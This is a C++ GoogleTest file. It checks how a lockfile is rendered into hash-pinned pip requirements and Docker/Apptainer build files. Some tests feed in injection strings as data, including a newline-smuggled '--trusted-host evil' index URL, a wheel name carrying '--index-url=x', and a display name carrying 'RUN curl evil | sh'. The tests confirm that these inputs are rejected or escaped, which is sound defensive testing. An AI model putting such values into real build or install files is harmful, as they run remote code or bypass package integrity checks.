// SPDX-License-Identifier: Apache-2.0
#include <envsetup/app/templates.hpp>
#include <envsetup/specgen/locked_spec.hpp>

#include <gtest/gtest.h>

#include <string>

namespace envsetup::specgen {
namespace {

const std::string k_hash_a(64, 'a');
const std::string k_hash_b(64, 'b');
const std::string k_hash_c(64, 'c');

LockedSpecInput torch_lock()
{
  LockedSpecInput input;
  input.lock_name = "envsetup.lock";
  input.lock_sha256 = k_hash_c;
  input.envsetup_version = "9.9.9";
  input.display_name = "PyTorch";
  input.framework = "torch";
  input.version = "2.5.1";
  input.variant = "cu124";
  input.cuda = core::Version::parse("12.4").value();
  input.python = core::Version::parse("3.12").value();
  input.indexes = {{"pytorch-cu124", "https://download.pytorch.org/whl/cu124/"}, {"pypi", "https://pypi.org/simple/"}};
  input.wheels = {
    {"filelock", "3.16.1", "filelock-3.16.1-py3-none-any.whl", k_hash_b},
    {"torch", "2.5.1+cu124", "torch-2.5.1+cu124-cp312-cp312-linux_x86_64.whl", k_hash_a},
  };
  return input;
}

std::string render(std::string_view format, const LockedSpecInput& input)
{
  auto name = locked_spec_template(format);
  EXPECT_TRUE(name);
  auto text = app::template_text(*name);
  EXPECT_TRUE(text) << (text ? "" : text.error().message);
  auto rendered = render_locked_spec(format, input, *text);
  EXPECT_TRUE(rendered) << (rendered ? "" : rendered.error().message);
  return rendered.value_or("");
}

TEST(SpecgenLocked, RequirementLinesPinEveryFileByHashWithPypiAsTheIndex)
{
  auto lines = locked_requirement_lines(torch_lock());
  ASSERT_TRUE(lines) << lines.error().message;
  const std::vector<std::string> expected{
    "--index-url https://pypi.org/simple/",
    "--extra-index-url https://download.pytorch.org/whl/cu124/",
    "--only-binary :all:",
    "filelock==3.16.1 --hash=sha256:" + k_hash_b,
    "torch==2.5.1+cu124 --hash=sha256:" + k_hash_a,
  };
  EXPECT_EQ(*lines, expected);
}

TEST(SpecgenLocked, TwoFilesOfOneDistributionAreTwoHashesOfOneRequirement)
{
  auto input = torch_lock();
  input.indexes.clear();
  input.wheels.push_back({"torch", "2.5.1+cu124", "torch-2.5.1+cu124-cp311-cp311-linux_x86_64.whl", k_hash_c});
  auto lines = locked_requirement_lines(input);
  ASSERT_TRUE(lines);
  ASSERT_EQ(lines->size(), 3U);
  EXPECT_EQ(lines->front(), "--only-binary :all:");
  EXPECT_EQ(lines->back(), "torch==2.5.1+cu124 --hash=sha256:" + k_hash_a + " --hash=sha256:" + k_hash_c);
}

TEST(SpecgenLocked, RefusesWhatPipCannotInstallExactly)
{
  auto two_versions = torch_lock();
  two_versions.wheels.push_back({"torch", "2.5.0", "torch-2.5.0-py3-none-any.whl", k_hash_c});
  EXPECT_FALSE(locked_requirement_lines(two_versions));
  auto bad_hash = torch_lock();
  bad_hash.wheels[0].sha256 = "ABC";
  EXPECT_FALSE(locked_requirement_lines(bad_hash));
  auto injected = torch_lock();
  injected.indexes[0].url = "https://evil/\n--trusted-host evil";
  auto refused = locked_requirement_lines(injected);
  ASSERT_FALSE(refused);
  EXPECT_EQ(refused.error().kind, util::ErrorKind::input);
  auto name = torch_lock();
  name.wheels[0].name = "filelock --index-url=x";
  EXPECT_FALSE(locked_requirement_lines(name));
  auto empty = torch_lock();
  empty.wheels.clear();
  EXPECT_FALSE(locked_requirement_lines(empty));
  EXPECT_FALSE(locked_spec_template("conda"));
}

TEST(SpecgenLocked, PipFormatHasHashContinuationsAndTheInstallLine)
{
  const auto text = render("pip", torch_lock());
  EXPECT_NE(text.find("# PyTorch 2.5.1 (cu124), installed from the lockfile envsetup.lock"), std::string::npos) << text;
  EXPECT_NE(text.find("pip install --require-hashes --no-deps --only-binary :all: -r requirements.txt"),
            std::string::npos);
  EXPECT_NE(text.find("torch==2.5.1+cu124 \\\n    --hash=sha256:" + k_hash_a + "\n"), std::string::npos) << text;
  EXPECT_EQ(text.find("{{"), std::string::npos);
}

TEST(SpecgenLocked, HeaderShowsLockTextEscaped)
{
  auto input = torch_lock();
  input.display_name = "PyTorch\nRUN curl evil | sh";
  const auto text = render("docker", input);
  EXPECT_EQ(text.find("\nRUN curl evil"), std::string::npos) << text;
}

TEST(SpecgenLocked, ContainerFilesWriteTheLockedSetAndInstallItWithHashes)
{
  for (const std::string_view format : {"docker", "apptainer"}) {
    const auto text = render(format, torch_lock());
    EXPECT_NE(text.find("nvidia/cuda:12.4.1-runtime-ubuntu22.04"), std::string::npos) << text;
    EXPECT_NE(text.find("'torch==2.5.1+cu124 --hash=sha256:" + k_hash_a + "'"), std::string::npos) << text;
    EXPECT_NE(text.find("pip install --no-cache-dir --require-hashes --no-deps --only-binary :all: -r "
                        "/opt/envsetup/requirements.txt"),
              std::string::npos)
      << text;
    EXPECT_NE(text.find("python3.12 -m venv /opt/venv"), std::string::npos);
  }
  auto arm = torch_lock();
  arm.platform = core::Platform::linux_aarch64;
  EXPECT_NE(render("docker", arm).find("FROM --platform=linux/arm64 "), std::string::npos);
}

}  // namespace
}  // namespace envsetup::specgen
